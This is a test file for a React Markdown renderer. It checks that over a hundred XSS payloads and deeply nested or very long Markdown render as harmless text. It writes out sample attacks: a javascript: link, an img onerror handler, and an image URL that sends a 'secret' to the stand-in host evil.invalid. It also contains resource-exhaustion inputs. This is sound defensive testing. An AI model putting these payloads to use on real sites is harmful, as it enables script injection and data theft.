// @vitest-environment happy-dom
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { xssPayloadsFor } from "../../../../test/browser/xss-payloads.ts";
import { createSplitter } from "../../src/text/blocks.ts";
import { MarkdownBlocks } from "../../src/text/markdown-blocks.tsx";

const payloads = xssPayloadsFor("evil.invalid");

/** What an answer may consist of. */
const allowedTags: ReadonlySet<string> = new Set(
  [
    ...["a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "img", "input", "li", "ol", "p"],
    ...["pre", "section", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"],
    // Of our own components.
    ...["bdi", "button", "div", "figcaption", "figure", "path", "span", "svg"],
  ].map((name) => name.toUpperCase()),
);

function shown(text: string, isStreaming: boolean): Element[] {
  const page = new DOMParser().parseFromString(
    `<body>${renderToStaticMarkup(<MarkdownBlocks text={text} isStreaming={isStreaming} />)}</body>`,
    "text/html",
  );
  return [...page.body.querySelectorAll("*")];
}

const forbidden = /^(?:on.*|style|srcset|srcdoc)$/u;
const allowedValues = new Map([
  ["href", /^(?:https?:\/\/|mailto:|#)/u],
  ["src", /^data:image\/(?:png|jpeg|gif|webp);base64,/u],
]);

function faultsOf(element: Element): string[] {
  const attributes = [...element.attributes];
  const isForeign = element.getAttribute("href")?.startsWith("http") === true;
  return [
    ...(allowedTags.has(element.tagName.toUpperCase()) ? [] : [`<${element.tagName}>`]),
    ...attributes.filter(({ name }) => forbidden.test(name)).map(({ name }) => name),
    ...attributes.filter(({ name, value }) => allowedValues.get(name)?.test(value) === false).map(({ value }) => value),
    ...(isForeign && element.getAttribute("rel") === null ? ["a link that tells where it is"] : []),
  ];
}

describe("text that attacks", () => {
  test("comes in more than a hundred ways", () => {
    expect(new Set(payloads).size).toBeGreaterThan(100);
  });

  test("is text", () => {
    for (const payload of payloads)
      expect({ payload, faults: faultsIn(payload, false) }).toEqual({ payload, faults: [] });
  });

  test.each([
    ["while it is streamed", true, (payload: string) => payload],
    ["in the middle of a text", false, (payload: string) => `before ${payload} after\n\n${payload}\n\nafter`],
    ["in a list", false, (payload: string) => `- item\n- ${payload.replaceAll("\n", "\n  ")}`],
    ["in a table", false, (payload: string) => `| a | b |\n|---|---|\n| ${payload.replaceAll("\n", " ")} | x |`],
  ])("is text %s", (_, isStreaming, around) => {
    // The browser tier tries all of them everywhere.
    for (const payload of payloads.filter((_, index) => index % 12 === 0)) {
      expect({ payload, faults: faultsIn(around(payload), isStreaming) }).toEqual({ payload, faults: [] });
    }
  });

  test("is text at each place at which it can be cut while it is streamed", () => {
    for (const payload of [
      "[x](javascript:alert(1))",
      "![x](https://evil.invalid/?secret=1)",
      "<img src=x onerror=alert(1)>",
    ]) {
      for (let end = 1; end < payload.length; end += 2) expect(faultsIn(payload.slice(0, end), true)).toEqual([]);
    }
  });
});

function faultsIn(text: string, isStreaming: boolean): string[] {
  return shown(text, isStreaming).flatMap(faultsOf);
}

describe("text that takes for ever", () => {
  test.each([
    ["quotes in quotes", ">".repeat(4_900)],
    ["lists in lists", "- ".repeat(2_400)],
    ["a wide table of empty rows", `|${"a|".repeat(100)}\n|${"-|".repeat(100)}\n${"|\n".repeat(2_200)}`],
    ["both, behind a note", `[^1]\n\n[^1]: a\n\n${"> 1. ".repeat(900)}`],
  ])("is shown as it is written: %s", (_, text) => {
    // A note is a list of one.
    expect(
      shown(text, false).filter(({ tagName }) => /^(?:BLOCKQUOTE|UL|OL|TABLE)$/u.test(tagName)).length,
    ).toBeLessThan(3);
  });

  test.each([
    ["paragraphs", "a\n\n".repeat(9_000)],
    ["rows", `|a|\n|-|\n${"|x|\n".repeat(9_000)}`],
  ])("of so many %s the first ones are read", (_, text) => {
    const { groups } = createSplitter()(text);
    const read = groups.flat().filter(({ kind }) => kind === "markdown");
    const lines = read.flatMap((block) => block.text.split("\n"));
    expect(lines.length).toBeGreaterThan(1_500);
    expect(lines.length).toBeLessThanOrEqual(3_000);
  });
});
